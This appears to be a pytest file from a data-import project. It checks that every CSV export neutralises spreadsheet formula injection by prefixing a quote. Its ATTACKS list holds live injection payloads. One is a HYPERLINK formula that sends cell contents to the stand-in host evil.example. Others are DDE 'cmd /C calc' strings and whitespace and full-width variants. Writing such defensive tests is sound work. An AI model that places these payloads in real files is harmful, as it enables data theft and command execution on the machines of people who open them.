"""Catalogue: formula injection. Every CSV export must show file data as
text in a spreadsheet. EXPORTS lists each export as a function from a
finished run to its CSV text; the lead adds the violations CSV (another
branch) as one more entry."""

import csv
import io

import pytest

from ingest.results import FORMULA_PREFIXES, safe_cell
from tests.importing import import_checked

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
]


def results_ledger(run) -> str:
    return run.results_file.open("rb").read().decode("utf-8")


EXPORTS = {"results ledger": results_ledger}


def formula_like(cell: str) -> bool:
    return cell.lstrip(" \t\r\n\u00a0\u3000").startswith(FORMULA_PREFIXES)


def attack_file() -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["external_id", "name", "country", "industry"])
    for number, attack in enumerate(ATTACKS):
        writer.writerow([attack, f"Org {number}", "DE", attack])  # valid rows
        writer.writerow([f"{attack} bad", attack, "not a country", attack])  # quarantined rows
    return buffer.getvalue().encode()


@pytest.mark.django_db
@pytest.mark.parametrize("dry_run", [False, True])
@pytest.mark.parametrize("export", EXPORTS)
def test_no_exported_cell_can_run_as_a_formula(export, dry_run):
    ended = import_checked(attack_file(), dry_run=dry_run)
    assert ended.counts[0] == 2 * len(ATTACKS) and ended.counts[1] > 0
    rows = list(csv.reader(io.StringIO(EXPORTS[export](ended.run))))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if formula_like(cell)] == []
    # The attack texts (external ids are trimmed) are there, neutralized, not dropped.
    for attack in ATTACKS:
        assert "'" + attack.strip() in cells


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_quotes_formulas(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["Acme", "0123", "a=b", "", 42, -5, None, "'=already"])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value
